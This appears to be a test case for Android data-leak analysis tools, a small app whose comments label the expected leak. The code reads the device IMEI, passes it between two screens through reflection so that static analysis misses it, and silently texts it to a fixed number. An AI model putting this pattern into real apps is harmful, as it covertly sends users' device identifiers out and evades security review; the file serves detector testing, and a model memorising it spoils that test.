// about       putExtra is called by reflection; the second screen sends that extra.
// leak        DEV_IMEI sms
// activity    cn.example.flow.MainActivity$SecondActivity
package cn.example.flow;

import android.app.Activity;
import android.content.Intent;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.lang.reflect.Method;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    Intent intent = new Intent(this, SecondActivity.class);
    try {
      Method put = Intent.class.getMethod("putExtra", String.class, String.class);
      put.invoke(intent, "device", phone.getDeviceId());
      put.invoke(intent, "title", "welcome");
    } catch (ReflectiveOperationException e) {
      return;
    }
    startActivity(intent);
  }

  public static class SecondActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
      super.onCreate(state);
      // One of the two extras.
      String text = getIntent().getStringExtra("device");
      SmsManager.getDefault().sendTextMessage("10690000", null, "second: " + text, null, null);
    }
  }
}
